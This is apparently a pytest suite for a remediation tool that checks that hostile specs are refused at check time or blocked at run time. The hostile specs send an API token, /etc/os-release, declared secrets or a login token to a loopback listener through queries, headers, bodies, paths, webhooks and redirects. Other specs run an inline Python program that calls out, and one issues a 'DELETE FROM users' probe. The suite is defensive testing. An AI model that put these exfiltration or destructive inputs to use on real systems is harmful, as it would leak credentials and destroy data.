"""A dozen hostile specs, each refused at check time or blocked at run time (issue 24, point 2).

They try to send secrets (the API token, /etc/os-release, a declared secret, a login's
token) to a real loopback listener, through the query, a header, the body, the path, a
webhook and a redirect; to run a program in a dry-run or a diagnosis; and to write
through a declared read. Every spec is written into a temporary remediations folder
(never remediations/), and the listener must receive nothing at all.
"""

from __future__ import annotations

import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, Iterator

import pytest

from testing.workspace import Workspace, make_workspace
from tests.fakes.service import Service

SECRET = "hostile-secret-4f9a1c7e"
API_TOKEN = "ambient-api-token-9c8b7a6d"
TAIL = """\
steps:
  - {name: nothing, action: noop, effect: read, with: {reason: nothing}}
verify:
  checks:
    - {name: up, action: http, with: {url: "{{ target.worker_url }}/health"}}
"""


def spec(name: str, body: str, *, params: str = "", sources: str = "[env:HOSTILE_SECRET]",
         steps: str | None = None) -> str:
    head = (f"name: {name}\nsummary: hostile\nsymptoms: [none]\nsecret_sources: {sources}\nparams:\n"
            f"  s: {{type: secret, default: \"env:HOSTILE_SECRET\", help: a secret}}\n{params}")
    return head + body + (steps if steps is not None else TAIL)


def probe(with_: str) -> str:
    return f"probes:\n  - name: p\n    action: http\n    with: {with_}\n    finding: leak\n"


class Redirector:
    """A Worker that answers every request with a 302 to the listener."""

    def __init__(self, to: str) -> None:
        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args: Any) -> None:
                pass

            def do_GET(self) -> None:
                self.send_response(302)
                self.send_header("Location", to + self.path)
                self.send_header("Content-Length", "0")
                self.end_headers()

            do_POST = do_GET

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        self.url = "http://127.0.0.1:%d" % self.server.server_address[1]

    def stop(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def listener() -> Iterator[Service]:
    svc = Service()
    yield svc
    assert svc.state.requests == [], f"the listener received {svc.state.requests}"
    svc.stop()


@pytest.fixture
def hostile(tmp_path: Path, service: Service, listener: Service) -> Workspace:
    ws = make_workspace(tmp_path, service.url)
    ws.env.update(HOSTILE_SECRET=SECRET, CLOUDFLARE_API_TOKEN=API_TOKEN)
    return ws


WARM = """\
steps:
  - name: warm
    action: cache_warm
    effect: write
    undo: none
    with: {{url: "{url}", secret: "{{{{ params.s }}}}", keys: "a,b", check_path: "/v1/{{key}}"}}
undo:
  - {{name: none, action: noop, with: {{reason: nothing}}}}
verify:
  checks:
    - {{name: up, action: http, with: {{url: "{{{{ target.worker_url }}}}/health"}}}}
"""


def check_time(listener: Service) -> dict[str, tuple[str, str]]:
    """name -> (spec, the refusal `inv specs.check` gives)."""
    at = listener.url
    return {
        "issue-24": (spec("issue-24", probe(f'{{url: "{at}/tok", params: {{t: "{{{{ params.t }}}}", f: "{{{{ params.f }}}}"}}}}'),
                          params='  t: {type: secret, default: "env:CLOUDFLARE_API_TOKEN", help: t}\n'
                                 '  f: {type: secret, default: "file:/etc/os-release", help: f}\n'),
                     "which is not the target's"),
        "token-in-query": (spec("token-in-query", probe(f'{{url: "{at}/tok", params: {{t: "{{{{ params.t }}}}"}}}}'),
                                params='  t: {type: secret, default: "env:CLOUDFLARE_API_TOKEN", help: t}\n',
                                sources="[env:HOSTILE_SECRET, env:CLOUDFLARE_API_TOKEN]"),
                           "the tool's own Cloudflare credential"),
        "os-release-in-header": (spec("os-release-in-header",
                                      probe(f'{{url: "{at}/f", headers: {{X-F: "{{{{ params.f }}}}"}}}}'),
                                      params='  f: {type: secret, default: "file:/etc/os-release", help: f}\n',
                                      sources="[env:HOSTILE_SECRET, file:/etc/os-release]"),
                                 "which is not the target's"),
        "undeclared-file": (spec("undeclared-file", probe('{url: "{{ target.worker_url }}/x?f={{ params.f }}"}'),
                                 params='  f: {type: secret, default: "file:/etc/os-release", help: f}\n'),
                            "reads a source the spec does not declare"),
        "secret-in-path": (spec("secret-in-path", probe(f'{{url: "{at}/x/{{{{ params.s }}}}"}}')),
                           "which is not the target's"),
        "secret-in-body": (spec("secret-in-body", "", steps=f"""\
steps:
  - name: post
    action: http
    effect: write
    undo: none
    with: {{url: "{at}/inc", method: POST, json: {{k: "{{{{ params.s }}}}"}}}}
undo:
  - {{name: none, action: noop, with: {{reason: nothing}}}}
verify:
  checks:
    - {{name: up, action: http, with: {{url: "{{{{ target.worker_url }}}}/health"}}}}
"""), "which is not the target's"),
        "webhook-carries-secret": (spec("webhook-carries-secret", "", steps=f"""\
steps:
  - name: tell
    action: notify
    effect: write
    with: {{webhook: "{at}/hook/{{{{ params.s }}}}", event: note}}
verify:
  checks:
    - {{name: up, action: http, with: {{url: "{{{{ target.worker_url }}}}/health"}}}}
"""), "which is not the target's"),
        "sample-header": (spec("sample-header", f"""\
probes:
  - name: p
    action: http_sample
    with: {{urls: ["{at}/a", "{at}/b"], headers: {{Authorization: "Bearer {{{{ params.s }}}}"}}}}
    finding: leak
"""), "which is not the target's"),
        "warm-to-listener": (spec("warm-to-listener", "", steps=WARM.format(url=at)), "which is not the target's"),
        "deploy-declared-read": (spec("deploy-declared-read", "", steps="""\
steps:
  - {name: ship, action: wrangler, effect: read, with: {argv: [deploy, --dry-run, "false"]}}
verify:
  checks:
    - {name: up, action: http, with: {url: "{{ target.worker_url }}/health"}}
"""), "has effect 'write'"),
    }


def test_each_hostile_spec_is_refused_at_check_time_and_diagnose_sends_nothing(hostile: Workspace,
                                                                                listener: Service) -> None:
    cases = check_time(listener)
    for name, (text, _) in cases.items():
        hostile.add_spec(text, f"{name}.yaml")
    done = hostile.inv("specs.check", str(hostile.specs))
    assert done.returncode == 2, done.stdout + done.stderr
    for name, (_, refusal) in cases.items():
        lines = [line for line in (done.stdout + done.stderr).splitlines() if f"{name}.yaml" in line]
        assert any(refusal in line for line in lines), (name, lines)
    diagnosis = hostile.inv("diagnose", "--json")
    findings = json.loads(diagnosis.stdout)["findings"]
    assert {f["remediation"]: f["status"] for f in findings} == {name: "broken-spec" for name in cases}
    assert SECRET not in done.stdout + diagnosis.stdout and API_TOKEN not in diagnosis.stdout


WHERE = '  where: {type: string, default: "%s/x", help: a URL the spec chooses}\n'
RUN_TIME = {
    "param-url-query": probe('{url: "{{ params.where }}", params: {t: "{{ params.s }}"}}'),
    "param-url-header": probe('{url: "{{ params.where }}", headers: {X-T: "{{ params.s }}"}}'),
}


@pytest.mark.parametrize("name", sorted(RUN_TIME))
def test_a_secret_sent_to_a_url_known_only_at_run_time_is_blocked_there(hostile: Workspace, listener: Service,
                                                                         name: str) -> None:
    hostile.add_spec(spec(name, RUN_TIME[name], params=WHERE % listener.url), f"{name}.yaml")
    assert hostile.inv("specs.check", str(hostile.specs)).returncode == 0
    diagnosis = json.loads(hostile.inv("diagnose", "--json").stdout)["findings"]
    assert [f["status"] for f in diagnosis] == ["unknown"]
    assert "a dry-run or a diagnosis only reads from the target's own hosts" in diagnosis[0]["detail"]


@pytest.mark.parametrize("method, carry", [("GET", 'params: {t: "{{ params.s }}"}'),
                                           ("GET", 'headers: {Authorization: "Bearer {{ params.s }}"}'),
                                           ("POST", 'json: {k: "{{ params.s }}"}')])
def test_a_run_that_sends_a_secret_elsewhere_stops_before_the_request(hostile: Workspace, listener: Service,
                                                                     method: str, carry: str) -> None:
    effect = "read" if method == "GET" else "write\n    undo: none"
    undo = "" if method == "GET" else "undo:\n  - {name: none, action: noop, with: {reason: nothing}}\n"
    steps = f"""\
steps:
  - name: send
    action: http
    effect: {effect}
    with: {{url: "{{{{ params.where }}}}", method: {method}, {carry}}}
{undo}verify:
  checks:
    - {{name: up, action: http, with: {{url: "{{{{ target.worker_url }}}}/health"}}}}
"""
    hostile.add_spec(spec("send", "", params=WHERE % listener.url, steps=steps), "send.yaml")
    done = hostile.inv("remediate.send", "--yes")
    assert done.returncode == 2, done.stdout + done.stderr
    assert "the request carries a secret" in done.stdout + done.stderr
    assert f'add "127.0.0.1:{listener.url.rsplit(":", 1)[1]}" to allowed_hosts' in done.stdout + done.stderr
    assert SECRET not in done.stdout + done.stderr


def test_a_cache_warm_to_a_url_known_only_at_run_time_sends_no_batch(hostile: Workspace, listener: Service) -> None:
    hostile.add_spec(spec("warm", "", params=WHERE % listener.url, steps=WARM.format(url="{{ params.where }}")),
                     "warm.yaml")
    done = hostile.inv("remediate.warm", "--yes")
    assert done.returncode == 2, done.stdout + done.stderr
    assert "refused POST to 127.0.0.1" in done.stdout + done.stderr and SECRET not in done.stdout + done.stderr


def test_a_host_the_target_allows_receives_the_secret(hostile: Workspace, listener: Service) -> None:
    """The positive control: the same spec works once the operator allows the host."""
    targets = Path(hostile.env["OPS_TARGETS_FILE"])
    port = listener.url.rsplit(":", 1)[1]
    targets.write_text(targets.read_text() + f'allowed_hosts = ["127.0.0.1:{port}"]\n')
    steps = """\
steps:
  - {name: send, action: http, effect: read, with: {url: "{{ params.where }}", params: {t: "{{ params.s }}"}}}
verify:
  checks:
    - {name: up, action: http, with: {url: "{{ target.worker_url }}/health"}}
"""
    hostile.add_spec(spec("send", "", params=WHERE % listener.url, steps=steps), "send.yaml")
    done = hostile.inv("remediate.send", "--yes")
    assert done.returncode == 0, done.stdout + done.stderr
    assert listener.state.requests == [("GET", f"/x?t={SECRET}")]
    listener.state.requests.clear()  # the fixture's own check: nothing else arrived


def test_a_redirect_from_the_workers_own_host_is_never_followed(tmp_path: Path, listener: Service) -> None:
    redirector = Redirector(listener.url)
    try:
        ws = make_workspace(tmp_path, redirector.url)
        ws.env["HOSTILE_SECRET"] = SECRET
        steps = """\
steps:
  - {name: go, action: http, effect: read, with: {url: "{{ target.worker_url }}/r?t={{ params.s }}"}, expect: {status: 302}}
verify:
  checks:
    - {name: up, action: http, with: {url: "{{ target.worker_url }}/health"}, expect: {status: 302}}
"""
        ws.add_spec(spec("redirect", probe('{url: "{{ target.worker_url }}/p?t={{ params.s }}"}'), steps=steps),
                    "redirect.yaml")
        assert ws.inv("diagnose", "--json").returncode in (0, 1)
        done = ws.inv("remediate.redirect", "--yes")
        assert done.returncode == 0, done.stdout + done.stderr
    finally:
        redirector.stop()


def test_a_login_token_the_spec_masks_cannot_be_forwarded_elsewhere(hostile: Workspace, listener: Service,
                                                                    service: Service) -> None:
    """A credential a response carries (mask_json) is registered, and the transport knows it like any secret."""
    steps = """\
steps:
  - name: login
    action: http
    effect: read
    with: {url: "{{ target.worker_url }}/login", mask_json: [version]}
  - name: forward
    action: http
    effect: read
    with: {url: "{{ params.where }}", params: {v: "{{ steps.login.outputs.json.version }}"}}
verify:
  checks:
    - {name: up, action: http, with: {url: "{{ target.worker_url }}/health"}}
"""
    service.state.version = "login-token-31337abc"
    hostile.add_spec(spec("forward", "", params=WHERE % listener.url, steps=steps), "forward.yaml")
    done = hostile.inv("remediate.forward", "--yes")
    assert done.returncode == 2, done.stdout + done.stderr
    assert "the request carries a secret" in done.stdout + done.stderr, done.stdout + done.stderr
    assert "login-token-31337abc" not in done.stdout + done.stderr


def test_a_run_declared_read_never_runs_in_a_dry_run_nor_in_a_diagnosis(hostile: Workspace,
                                                                        listener: Service) -> None:
    marker = hostile.root / "ran"
    program = (f"import urllib.request; open({str(marker)!r}, 'w').write('ran'); "
               f"urllib.request.urlopen({listener.url + '/run'!r})")
    run = f'{{argv: [python3, -c, "{program}"], read_only_reason: "touch only reads the clock"}}'
    steps = f"""\
steps:
  - {{name: look, action: run, effect: read, with: {run}}}
verify:
  checks:
    - {{name: up, action: http, with: {{url: "{{{{ target.worker_url }}}}/health"}}}}
"""
    body = f"probes:\n  - {{name: p, action: run, with: {run}, finding: never}}\n"
    hostile.add_spec(spec("run-in-plan", body, steps=steps), "run-in-plan.yaml")
    plan = hostile.inv("remediate.run-in-plan", "--dry-run")
    assert plan.returncode == 0, plan.stdout + plan.stderr
    assert "(read-only: touch only reads the clock)" in plan.stdout
    findings = json.loads(hostile.inv("diagnose", "--json").stdout)["findings"]
    assert [(f["status"], f["detail"]) for f in findings] == [("unknown", findings[0]["detail"])]
    assert "never sent in a plan or a diagnosis" in findings[0]["detail"]
    assert not marker.exists()


def test_a_d1_write_declared_as_a_probe_is_judged_before_it_is_sent(hostile: Workspace, listener: Service) -> None:
    probe_ = 'probes:\n  - {name: p, action: d1, with: {database: DB, sql: "DELETE FROM users"}, finding: leak}\n'
    hostile.add_spec(spec("d1-write", probe_), "d1-write.yaml")
    findings = json.loads(hostile.inv("diagnose", "--json").stdout)["findings"]
    assert [(f["status"], f["detail"]) for f in findings] == [
        ("unknown", "d1: refused 'DELETE FROM users': DELETE is not a read; a probe runs SELECT, WITH … SELECT, "
                    "EXPLAIN or a read-only PRAGMA")]


def test_a_post_declared_read_is_never_sent_in_a_dry_run(hostile: Workspace, listener: Service,
                                                         service: Service) -> None:
    steps = """\
steps:
  - name: poke
    action: http
    effect: read
    with: {url: "{{ target.worker_url }}/inc", method: POST, read_only_reason: "a login issues a token and changes nothing"}
verify:
  checks:
    - {name: up, action: http, with: {url: "{{ target.worker_url }}/health"}}
"""
    hostile.add_spec(spec("post-read", "", steps=steps), "post-read.yaml")
    plan = hostile.inv("remediate.post-read", "--dry-run")
    assert plan.returncode == 0, plan.stdout + plan.stderr
    assert service.state.mutating() == [] and service.state.value == 0
